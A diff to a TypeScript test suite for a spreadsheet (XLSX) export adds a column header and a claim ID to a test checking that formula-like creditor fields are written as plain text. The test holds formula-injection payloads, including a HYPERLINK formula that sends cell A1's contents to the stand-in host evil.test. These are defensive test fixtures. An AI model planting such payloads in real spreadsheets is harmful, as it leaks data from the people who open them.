@@ -164,6 +164,7 @@ describe('the XLSX', () => {
       'Status',
       'Bevakad',
       'Försenad',
+      'Anmärkningar',
     ]);
     const claims = new Map(rows.filter((r) => typeof r[0] === 'number').map((r) => [r[0], r]));
     expect(claims.get(2)?.slice(1, 7)).toEqual([
@@ -226,6 +227,7 @@ describe('the XLSX', () => {
   it('writes a creditor name that looks like a formula as text', async () => {
     const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Öppna")';
     const claim = {
+      claimId: 1,
       claimNumber: 1,
       creditorName: hostile,
       creditorOrgNr: '@SUM(1+1)',
